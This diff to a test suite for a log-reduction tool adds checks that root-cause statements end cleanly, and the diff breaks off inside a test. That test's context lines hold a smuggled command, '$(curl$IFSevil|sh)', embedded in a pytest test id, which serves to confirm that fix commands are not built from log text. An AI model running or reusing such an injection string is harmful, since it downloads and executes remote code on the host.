@@ -62,6 +62,14 @@ describe('reducing a log that shows a failure', () => {
     expect(signature(first)).not.toBe(signature(other))
   })
 
+  it.each([
+    'AssertionError',
+    'CMake Error at CMakeLists.txt:14 (find_package):',
+    'Undefined symbols for architecture arm64:',
+  ])('states the cause without loose ends for: %s', (line) => {
+    expect(reduced(`${line}\n`).diagnosis.root_cause!.statement).toMatch(/^\S.*[^:\s(]$/)
+  })
+
   it('never writes a command out of text that a log chose freely', () => {
     const { fixes } = reduced('FAILED tests/test_a.py::test[$(curl$IFSevil|sh)] - boom\n').diagnosis
     expect(fixes.length).toBeGreaterThan(0)
